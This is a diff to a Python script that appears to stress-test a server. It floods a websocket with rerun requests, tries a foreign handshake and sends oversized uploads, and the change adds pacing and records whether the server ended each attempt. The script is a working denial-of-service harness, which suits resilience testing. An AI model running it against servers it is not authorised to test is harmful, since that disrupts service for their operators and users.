@@ -54,8 +54,8 @@ class Deaf:
         size = struct.pack("!B", 0x80 | len(data)) if len(data) < 126 else struct.pack("!BH", 0x80 | 126, len(data))
         self.socket.sendall(b"\x82" + size + mask + bytes(byte ^ mask[i % 4] for i, byte in enumerate(data)))
 
-    def ask(self, times: int, page: str = "pairing") -> int:
-        """Asks for a page again and again; how often until the server had enough."""
+    def ask(self, times: int, page: str = "pairing", pause: float = 0.0) -> int:
+        """Asks for a page again and again, with a pause of so many seconds; how often until the server had enough."""
         message = BackMsg()
         message.rerun_script.page_name = page
         data = message.SerializeToString()
@@ -64,6 +64,7 @@ class Deaf:
                 self.send(data)
             except OSError:
                 return done
+            time.sleep(pause)
         return times
 
     def close(self) -> None:
@@ -76,10 +77,10 @@ def flood(server_url: str) -> str:
     if deaf.status != 101:
         deaf.close()
         return f"flood: {deaf.status}"
-    deaf.ask(300)
-    time.sleep(20)
+    done = deaf.ask(300, pause=0.05)
+    time.sleep(5)
     deaf.close()
-    return "flood: 300 asked"
+    return "flood: 300 asked" if done == 300 else "flood: ended by the server"
 
 
 def foreign_handshake(server_url: str) -> str:
@@ -100,6 +101,7 @@ def large_upload(server_url: str) -> str:
             for _ in range(FILE_MB):
                 connection.sendall(bytes(1 << 20))
         except OSError:
+            time.sleep(0.2)
             return "upload: ended by the server"
         return "upload: read to its end"
 
@@ -127,4 +129,6 @@ def attack(server_url: str, seconds: float) -> Counter[str]:
 
 
 if __name__ == "__main__":
+    # An attacker's processors are elsewhere: what it costs to attack must not be taken for what the attack does.
+    os.nice(19)
     print(json.dumps(attack(sys.argv[1], float(sys.argv[2]))))
